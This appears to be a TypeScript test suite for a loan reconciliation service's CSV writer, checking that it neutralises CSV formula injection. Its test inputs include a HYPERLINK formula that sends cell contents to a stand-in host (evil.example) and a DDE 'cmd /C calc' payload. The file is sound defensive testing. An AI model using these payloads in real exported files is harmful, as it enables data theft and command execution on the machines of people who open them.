// CSV injection (OWASP): a cell starting with =, +, -, @, tab or CR runs as a formula when a
// report is opened in a spreadsheet. A books serial is the uploader's free text and reached the
// reconciliation report's CSV unchanged (=HYPERLINK(…) as a live link, @SUM(…) unquoted). Every
// CSV the node writes goes through formatSafeCsv: such a cell gets a leading ' and quotes; plain
// numbers, negative ones included, stay numbers.
import { expect } from "chai";
import { parseCsv } from "../../../nodes/src/channels/csv.ts";
import { buildCreditReport } from "../../../nodes/src/reconcile/credit-report.ts";
import { reconcileDay, toCsv } from "../../../nodes/src/reconcile/reconcile.ts";
import { formatSafeCsv, isFormulaCell, safeCsvCell } from "../../../nodes/src/reconcile/safe-csv.ts";

const DAY = "2026-11-22";
const LOAN = `0x${"11".repeat(32)}`;

describe("safe CSV cells", () => {
  it("neutralises a cell starting with =, +, -, @, tab or CR: quote prefix, always quoted, inner quotes doubled", () => {
    expect(safeCsvCell("=1+1")).to.equal(`"'=1+1"`);
    expect(safeCsvCell("+8613812345678")).to.equal(`"'+8613812345678"`);
    expect(safeCsvCell("-2+3")).to.equal(`"'-2+3"`);
    expect(safeCsvCell("@SUM(A1:A9)")).to.equal(`"'@SUM(A1:A9)"`);
    expect(safeCsvCell("\t=1")).to.equal(`"'\t=1"`);
    expect(safeCsvCell("\r=1")).to.equal(`"'\r=1"`);
    expect(safeCsvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).to.equal(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
    );
    expect(safeCsvCell("-")).to.equal(`"'-"`);
  });

  it("leaves plain numbers (negative too) and ordinary text as the RFC 4180 writer writes them", () => {
    for (const n of ["0", "12", "-12", "1200.50", "-0.01", "2026"]) {
      expect(isFormulaCell(n), n).to.equal(false);
      expect(safeCsvCell(n)).to.equal(n);
    }
    expect(safeCsvCell("")).to.equal("");
    expect(safeCsvCell("JL20261122000001")).to.equal("JL20261122000001");
    expect(safeCsvCell("a,b")).to.equal(`"a,b"`);
    expect(safeCsvCell(" padded")).to.equal(`" padded"`);
    expect(safeCsvCell("x=1")).to.equal("x=1");
    expect(safeCsvCell("1e5")).to.equal("1e5");
  });

  it("formatSafeCsv: CRLF records that read back to the quote-prefixed text", () => {
    const text = formatSafeCsv([
      ["serial", "amount"],
      ["=cmd|' /C calc'!A0", "-35.00"],
    ]);
    expect(text).to.equal(`serial,amount\r\n"'=cmd|' /C calc'!A0",-35.00\r\n`);
    expect(parseCsv(text).map((r) => r.fields)).to.deep.equal([
      ["serial", "amount"],
      ["'=cmd|' /C calc'!A0", "-35.00"],
    ]);
  });
});

describe("the node's CSV reports are safe to open in a spreadsheet", () => {
  it("reconciliation: a formula in a books serial (missing on chain, duplicate, too long) is written as text", () => {
    const hostile = ['=HYPERLINK("http://evil.example","open")', "@SUM(1+1)", "+1+1", `=${"A".repeat(70)}`];
    const books = [
      "serial,loan_id,type,amount,value_date,account_masked",
      `"${hostile[0]!.replaceAll('"', '""')}",${LOAN},repayment,10.00,${DAY},622202******1234`,
      `${hostile[1]},${LOAN},repayment,10.00,${DAY},622202******1234`,
      `${hostile[2]},${LOAN},repayment,10.00,${DAY},622202******1234`,
      `${hostile[2]},${LOAN},repayment,10.00,${DAY},622202******1234`,
      `${hostile[3]},${LOAN},repayment,10.00,${DAY},622202******1234`,
    ].join("\r\n");
    const csv = toCsv(reconcileDay(DAY, books, []));
    const cells = parseCsv(csv).flatMap((r) => r.fields);
    for (const serial of hostile) {
      expect(cells, serial).to.include(`'${serial}`);
      expect(cells, serial).to.not.include(serial);
    }
    // every cell of the file: none would start a formula
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).to.deep.equal([]);
    // the amounts are still plain numbers
    expect(cells).to.include("10.00");
  });

  it("credit report: the file of the node's own values is unchanged by the writer", () => {
    const loan = {
      loanId: LOAN,
      borrowerKey: `0x${"aa".repeat(32)}`,
      principalFen: 5_000_000n,
      outstandingFen: 4_200_000n,
      state: "Active" as const,
      daysOverdue: 0,
      nextDueDay: 20_800,
    };
    const { csv } = buildCreditReport("2026-11", [loan]);
    expect(csv).to.equal(
      `month,loan_id,borrower_key,principal,balance,status,days_overdue,next_due_date\r\n2026-11,${LOAN},0x${"aa".repeat(32)},50000.00,42000.00,N,0,2026-12-13\r\n`,
    );
  });
});
